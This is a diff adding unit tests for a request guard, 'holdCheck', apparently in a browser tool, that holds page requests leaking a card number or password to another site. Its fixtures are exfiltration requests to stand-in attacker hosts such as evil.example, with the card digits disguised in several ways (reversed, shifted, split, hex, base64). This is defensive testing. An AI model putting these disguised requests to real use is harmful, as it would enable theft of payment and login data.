@@ -228,3 +228,75 @@ describe('holdCheck: card numbers by their key', () => {
     expect(cardNumberOf('4111 1111 1111 111a')).toBeNull();
   });
 });
+
+describe('holdCheck by destination: a value in the page goes only where it was typed or let go', () => {
+  // typed on the shop (port 8443 is another service of the same host)
+  const placed = (more: Partial<Watched> = {}): Watched[] => [
+    { value: PASSWORD, kind: 'password', site: 'https://shop.example/', home: ['shop.example'], ...more },
+  ];
+  const card = (more: Partial<Watched> = {}): Watched[] => [{ value: CARD, kind: 'card', home: ['shop.example'], ...more }];
+  const reversed = [...CARD_DIGITS].reverse().join('');
+  const plusOne = [...CARD_DIGITS].map((d) => String((Number(d) + 1) % 10)).join('');
+  const hex = Buffer.from(CARD_DIGITS).toString('hex');
+
+  it.each([
+    ['an image URL with nothing of the value', get('https://cdn.evil.example/p.gif?v=1')],
+    ['the number reversed', get(`https://evil.example/c?x=${reversed}`)],
+    ['each digit + 1', post('https://evil.example/c', plusOne)],
+    ['split 8 + 8', post('https://evil.example/c', `a=${CARD_DIGITS.slice(0, 8)}&b=${CARD_DIGITS.slice(8)}`)],
+    ['hex', get(`https://evil.example/c/${hex}`)],
+    ['dotted', get(`https://evil.example/c?d=${[...CARD_DIGITS].join('.')}`)],
+    ['another port of the same host', post('https://shop.example:8443/c', 'x=1')],
+    ['another tenant of a hosting domain', post('https://evil.atlassian.net/c', 'x=1')],
+  ])('held whatever it carries: %s', (_, req) => {
+    const hit = holdCheck(req, ctx({ watched: card() }));
+    expect(hit?.id).toBe('payment');
+    expect(hit?.away).toBe(new URL(req.url).port ? `shop.example:${new URL(req.url).port}` : (new URL(req.url).hostname === 'evil.atlassian.net' ? 'evil.atlassian.net' : 'evil.example'));
+    expect(hit?.reason).toContain('is in this page');
+  });
+
+  it('the question says when the request also carries the value, and how', () => {
+    const hit = holdCheck(get(`https://evil.example/c?x=${b64(CARD_DIGITS)}`), ctx({ watched: card() }));
+    expect(hit).toMatchObject({ id: 'payment', away: 'evil.example', how: 'base64' });
+    expect(hit?.reason).toMatch(/evil\.example.*; the request carries it$/);
+  });
+
+  it('its own site: any subdomain, http or https, goes; a card is still held when a request there carries it', () => {
+    expect(holdCheck(get('https://static.shop.example/logo.png'), ctx({ watched: card() }))).toBeNull();
+    expect(holdCheck(post('http://api.shop.example/cart', '{"n":2}'), ctx({ watched: card() }))).toBeNull();
+    expect(holdCheck(post('https://shop.example/pay', `{"pan":"${CARD_DIGITS}"}`), ctx({ watched: card() }))?.away).toBeUndefined();
+    expect(ruleOf(post('https://shop.example/pay', `{"pan":"${CARD_DIGITS}"}`), ctx({ watched: card() }))).toBe('payment');
+    // a password goes to where it was typed, carried or not
+    expect(holdCheck(post('https://shop.example/login', `p=${PASSWORD}`), ctx({ watched: placed() }))).toBeNull();
+  });
+
+  it('an approved action releases a card on its own site, never to another', () => {
+    const approved = ctx({ watched: card(), approved: 'payment' });
+    expect(holdCheck(post('https://shop.example/pay', `{"pan":"${CARD_DIGITS}"}`), approved)).toBeNull();
+    expect(holdCheck(post('https://third.example/collect', `{"pan":"${CARD_DIGITS}"}`), approved)).toMatchObject({ id: 'payment', away: 'third.example' });
+    expect(holdCheck(post('https://third.example/p', `p=${PASSWORD}`), ctx({ watched: placed(), approved: 'password' }))).toMatchObject({ id: 'password', away: 'third.example' });
+  });
+
+  it('a destination the person let it go to goes, carried or not; the value keeps its other limits', () => {
+    const w = card({ to: ['pay.example'] });
+    expect(holdCheck(post('https://api.pay.example/t', `{"pan":"${CARD_DIGITS}"}`), ctx({ watched: w }))).toBeNull();
+    expect(holdCheck(get('https://evil.example/x'), ctx({ watched: w }))?.away).toBe('evil.example');
+  });
+
+  it('a value not put into any page is judged by what a request carries, as before; off or always-allowed rules hold nothing', () => {
+    expect(holdCheck(get('https://cdn.evil.example/p.gif'), ctx({ watched: [{ value: CARD, kind: 'card' }] }))).toBeNull();
+    expect(holdCheck(get('https://cdn.evil.example/p.gif'), ctx({ watched: card(), guards: allowOnSite(DEFAULT_GUARDS, 'https://shop.example/', 'payment') }))).toBeNull();
+    const off: GuardSettings = { ...DEFAULT_GUARDS, rules: DEFAULT_GUARDS.rules.map((r) => (r.id === 'payment' ? { ...r, on: false } : r)) };
+    expect(holdCheck(get('https://cdn.evil.example/p.gif'), ctx({ watched: card(), guards: off }))).toBeNull();
+    // requests that leave nothing: not http(s)
+    expect(holdCheck(get('data:image/gif;base64,R0lGOD'), ctx({ watched: card() }))).toBeNull();
+  });
+
+  it('the held record keeps the destination and the child session, never the value', () => {
+    const req = get(`https://evil.example/c/${CARD_DIGITS}`);
+    const hit = holdCheck(req, ctx({ watched: card() }))!;
+    const held = heldOf(hit, req, 'r1', 7, 1000, 'S1');
+    expect(held).toMatchObject({ away: 'evil.example', sessionId: 'S1', tabId: 7 });
+    expect(JSON.stringify(held)).not.toContain(CARD_DIGITS);
+  });
+});
